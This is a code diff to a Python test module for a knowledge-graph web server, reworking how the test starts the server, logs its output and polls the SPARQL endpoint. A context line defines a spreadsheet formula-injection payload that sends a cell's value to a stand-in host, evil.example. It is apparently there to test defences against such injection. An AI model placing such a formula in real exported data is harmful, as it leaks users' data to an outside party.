@@ -23,6 +23,8 @@ import json
 import os
 import subprocess
 import sys
+import time
+import urllib.request
 from pathlib import Path
 from urllib.parse import quote
 
@@ -30,7 +32,7 @@ import pytest
 
 from kg.store import Store
 from kg.web import create_app
-from test_web_server import free_port, wait_until_serving
+from test_web_server import free_port
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -70,13 +72,25 @@ def store_path(tmp_path_factory) -> Path:
 
 
 def _serve(store: Path, **env: str):
+    """Start ``pmkg serve``; its log goes to a file (a pipe nobody reads would fill and stall the server)."""
     port = free_port()
+    log = open(store.parent / f"serve-{port}.log", "wb")
     process = subprocess.Popen(
         [sys.executable, "-c", "from kg.web.cli import serve; serve()", "--store", str(store), "--port", str(port)],
-        env={**os.environ, "PMKG_QUERY_TIMEOUT": "5", "PMKG_DOCS_DIR": str(store.parent / "docs"), **env}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+        env={**os.environ, "PMKG_QUERY_TIMEOUT": "5", "PMKG_DOCS_DIR": str(store.parent / "docs"), **env},
+        stdout=log, stderr=log,
     )
-    wait_until_serving(f"http://127.0.0.1:{port}/sparql", process)
-    return process, port
+    log.close()
+    deadline = time.monotonic() + 30
+    while True:
+        try:
+            urllib.request.urlopen(f"http://127.0.0.1:{port}/sparql", timeout=2).read()
+            return process, port
+        except OSError:
+            if process.poll() is not None or time.monotonic() > deadline:
+                process.kill()
+                raise RuntimeError((store.parent / f"serve-{port}.log").read_text()) from None
+            time.sleep(0.1)
 
 
 @pytest.fixture(scope="module")
